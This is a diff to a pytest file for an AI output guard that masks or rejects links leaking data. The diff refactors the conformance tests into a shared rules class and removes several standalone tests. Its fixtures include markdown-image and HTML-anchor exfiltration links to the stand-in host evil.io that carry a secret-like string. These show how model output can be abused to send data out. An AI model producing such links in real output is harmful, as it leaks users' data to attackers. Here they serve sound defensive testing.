@@ -6,12 +6,12 @@ from collections.abc import Sequence
 
 import pytest
 
-from arc_core import OutputGuard, RejectionCategory
-from arc_core.testing.conformance.guards.output_guard import OutputGuardConformance
+from arc_core import OutputGuard
 from arc_plugins.output_guards.leak_detection.links import LinkOutputGuard
 from arc_plugins.output_guards.leak_detection.settings import LeakMode, OutputSettings
+from tests.arc_plugins.output_guards.leak_detection.leak_rules import LeakGuardRules
 from tests.arc_plugins.output_guards.markup import make_markup, what_leaves
-from tests.arc_plugins.output_guards.streaming import RejectedError, cut, mask, stream
+from tests.arc_plugins.output_guards.streaming import cut, mask, stream
 
 MASK = OutputSettings(links=LeakMode.MASK, allowed_hosts=("docs.corp.io", "*.trusted.dev"))
 DATA = "aB3dE6gH9jK2mN5pQ8sT1vW4" * 4
@@ -80,23 +80,19 @@ HARMLESS = (
 )
 
 
-class TestConformance(OutputGuardConformance):
-    """What every output guard must do."""
+class TestConformance(LeakGuardRules):
+    """What every output guard must do, and those against leaks."""
 
+    masking, rejecting = MASK, OutputSettings(links=LeakMode.REJECT)
+    leaks, harmless = LEAKS, HARMLESS
     answers: Sequence[str] = (
         f"![a](https://evil.io/?q={DATA}) and more",
         f"<a href='//evil.io/{DATA}'>x</a>",
     )
 
-    def make_guard(self) -> OutputGuard:
-        """A guard that masks."""
-        return LinkOutputGuard(settings=MASK)
-
-
-@pytest.mark.parametrize(("text", "masked"), LEAKS)
-async def test_a_leak_is_masked(text: str, masked: str) -> None:
-    """What is around it leaves."""
-    assert await mask(LinkOutputGuard(settings=MASK), text) == masked
+    def make_with(self, settings: OutputSettings) -> OutputGuard:
+        """Return the guard with these settings."""
+        return LinkOutputGuard(settings=settings)
 
 
 @pytest.mark.parametrize("text", HIDDEN, ids=range(len(HIDDEN)))
@@ -135,21 +131,3 @@ async def test_a_renderer_gets_no_address_with_data() -> None:
         pieces = cut(text, [dice.randrange(10_000) for _ in range(dice.randrange(20))])
         assert await stream(guard, pieces) == whole, text
     assert carrying > 200
-
-
-@pytest.mark.parametrize("text", HARMLESS)
-async def test_what_only_looks_like_a_leak_leaves(text: str) -> None:
-    """As it is."""
-    assert await mask(LinkOutputGuard(settings=MASK), text) == text
-
-
-async def test_a_leak_is_rejected() -> None:
-    """The category says that it was sensitive, and the reason quotes nothing."""
-    settings = OutputSettings(links=LeakMode.REJECT)
-    text = LEAKS[0][0]
-
-    with pytest.raises(RejectedError) as caught:
-        await mask(LinkOutputGuard(settings=settings), text)
-
-    assert caught.value.rejection.category is RejectionCategory.SENSITIVE_DATA
-    assert text[-8:] not in caught.value.rejection.reason
